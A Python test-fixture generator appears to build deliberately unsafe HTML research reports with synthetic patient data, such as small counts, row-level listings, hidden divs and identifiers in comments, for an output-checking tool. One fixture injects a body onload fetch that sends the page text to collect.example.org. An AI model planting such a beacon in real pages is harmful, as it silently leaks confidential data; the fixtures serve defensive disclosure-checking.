"""HTML pages and Markdown: knitted reports, dashboards, wikis and readmes."""

import base64
import json

import numpy as np
import pandas as pd

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs4 import plots
from tests.airlock.outputs4.blocks import population, report, sizes
from tests.airlock.outputs4.cohort import ipp, ratios, share, split, survival, table_one
from tests.airlock.outputs4.prose import methods
from tests.airlock.outputs4.web_safe import GT, write_safe
from tests.airlock.outputs4.writers import inner, page


def write(shelf: Shelf) -> None:
    pages(shelf)
    behind(shelf)
    write_safe(shelf)


def pages(shelf: Shelf) -> None:
    r = shelf.random("h-gt")
    path = shelf.unsafe(
        "html/gtsummary_ect.html",
        "small_count",
        "Catatonia 9 (0.9%)",
        "gtsummary table",
        "2,120 patients with a depressive episode",
    )
    rows = table_one(r, "en", (1000, 1120), ("ECT", "Usual care"), 9)
    rows.insert(8, ["Catatonia", share(9, 1000), share(26, 1120), "0.006"])
    path.write_text(page("Table 1", [("t", rows)], GT), "utf-8")

    r = shelf.random("h-pandas")
    path = shelf.unsafe(
        "html/crosstab_mode_sortie.html",
        "small_count",
        "Neurologie / fugue : 2",
        "pd.crosstab, mode de sortie par service",
        "24 000 séjours en 2022",
    )
    frame = pd.DataFrame(
        {
            "domicile": [2410, 1980, 1203, 3120],
            "SSR": [402, 611, 733, 218],
            "transfert": [88, 121, 64, 143],
            "fugue": [14, 2, 19, 31],
        },
        index=["Cardiologie", "Neurologie", "Gériatrie", "Urgences"],
    )
    path.write_text(
        f"<html><head><meta charset='utf-8'></head><body><h3>Mode de sortie</h3>{frame.to_html()}</body></html>\n",
        "utf-8",
    )

    r = shelf.random("h-rows")
    path = shelf.unsafe(
        "html/datatable_listing.html",
        "row_level",
        "a table of 60 patients with age, sex and outcome",
        "Listing of the cohort as an interactive table",
        "60 patients with endocarditis",
    )
    rows = [["no", "age", "sex", "valve", "germ", "surgery", "outcome"]]
    rows += [
        [
            str(i),
            str(r.randrange(38, 87)),
            r.choice("MF"),
            r.choice(("aortic", "mitral", "tricuspid")),
            r.choice(("S. aureus", "Streptococcus", "Enterococcus")),
            r.choice(("yes", "no")),
            r.choice(("alive", "dead")),
        ]
        for i in range(1, 61)
    ]
    path.write_text(page("Endocarditis cohort", [("t", rows)], "table.dataTable{width:100%}td{padding:3px}"), "utf-8")

    r = shelf.random("h-scatter")
    arms = sizes(r)
    path = shelf.unsafe(
        "html/rmarkdown_report.html",
        "points",
        "figure in base64: a point for each of 64 patients",
        "Knitted report with a figure of individual values",
        "64 patients in the imaging sub-study",
    )
    figure, axes = plots.new(title="Infarct volume and NIHSS (n = 64)", x="NIHSS", y="mL")
    rng = np.random.default_rng(71)
    axes.scatter(rng.integers(2, 25, 64), rng.gamma(2, 18, 64), color="darkred")
    code = base64.b64encode(plots.png(figure)).decode()
    blocks = [
        *report(r, "en", "stroke", arms, "mr"),
        ("raw", f'<img src="data:image/png;base64,{code}" alt="scatter">'),
    ]
    path.write_text(page("Imaging sub-study", blocks), "utf-8")

    r = shelf.random("h-flow")
    path = shelf.unsafe(
        "html/flow_diagram.html",
        "small_count",
        "box « Opposition : 5 patients »",
        "Diagramme de flux",
        "4 812 patients repérés",
    )
    boxes = "".join(
        f"<div class='box'>{b}</div>"
        for b in (
            "Repérés : 4 812 patients",
            "Mineurs : 204 patients",
            "Opposition : 5 patients",
            "Analysés : 4 603 patients",
        )
    )
    path.write_text(
        page(
            "Flux",
            [("raw", boxes), *(("p", t) for t in methods(r, "fr", 2))],
            ".box{border:1px solid;margin:1em;padding:1em;width:20em}",
        ),
        "utf-8",
    )


def behind(shelf: Shelf) -> None:
    r = shelf.random("h-json")
    arms = sizes(r)
    path = shelf.unsafe(
        "html/dashboard_los.html",
        "row_level",
        "script type application/json holds 90 stays",
        "Dashboard of the length of stay",
        population("en", "hip", arms),
    )
    data = [
        {
            "stay": i,
            "age": r.randrange(60, 89),
            "los": r.randrange(2, 40),
            "asa": r.randrange(1, 5),
            "died": r.random() < 0.1,
        }
        for i in range(90)
    ]
    path.write_text(
        page(
            "Length of stay",
            report(r, "en", "hip", arms, "to"),
            tail=f'<script type="application/json" id="data">{json.dumps(data)}</script>',
        ),
        "utf-8",
    )

    r = shelf.random("h-comment")
    path = shelf.unsafe(
        "html/resultats_quarto.html",
        "identifier",
        "HTML comment with two patient numbers",
        "Résultats (Quarto)",
        "3 660 patients, AVC ischémique",
    )
    path.write_text(
        page(
            "Résultats",
            [
                ("t", ratios(r, "fr", 9)),
                ("raw", f"<!-- TODO vérifier {ipp(r)} et {ipp(r)}, doublons ? -->"),
                ("t", survival(r, "fr", 1720)),
            ],
        ),
        "utf-8",
    )

    r = shelf.random("h-none")
    path = shelf.unsafe(
        "html/tabset_hidden.html",
        "hidden",
        "div with display:none: counts of 2 to 8 by centre",
        "Results in tabs",
        "14 centres, 7,020 patients",
    )
    hidden = [["centre", "deaths on table"], *([f"C{i:02d}", str(r.randrange(2, 9))] for i in range(1, 15))]
    shown = [["centre", "patients"], *([f"C{i:02d}", str(n)] for i, n in enumerate(split(r, 7020, 14), 1))]
    path.write_text(
        page("Results", [("t", shown), ("raw", f'<div style="display:none">{inner([("t", hidden)])}</div>')]), "utf-8"
    )

    r = shelf.random("h-onload")
    path = shelf.unsafe(
        "html/report_autoload.html",
        "macro",
        "onload runs a script that sends the page to a server",
        "Report of the odds ratios",
        "8,930 patients with hip fracture",
    )
    text = page("Odds ratios", [("t", ratios(r, "en", 10))])
    path.write_text(
        text.replace(
            "<body>",
            "<body onload=\"fetch('https://collect.example.org/?d='+encodeURIComponent(document.body.innerText))\">",
        ),
        "utf-8",
    )

    r = shelf.random("h-vega")
    path = shelf.unsafe(
        "html/altair_strip.html",
        "points",
        "Vega-Lite values: one record a patient, marks of type point",
        "Strip plot of haemoglobin by ward",
        "72 patients in 3 wards",
    )
    spec = {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "mark": "point",
        "encoding": {"x": {"field": "ward"}, "y": {"field": "hb", "type": "quantitative"}},
        "data": {
            "values": [{"patient": i, "ward": "ABC"[i % 3], "hb": round(r.gauss(11, 1.6), 1)} for i in range(72)]
        },
    }
    path.write_text(
        page(
            "Haemoglobin by ward",
            [("raw", '<div id="vis"></div>')],
            tail=f'<script type="text/json">{json.dumps(spec)}</script>',
        ),
        "utf-8",
    )
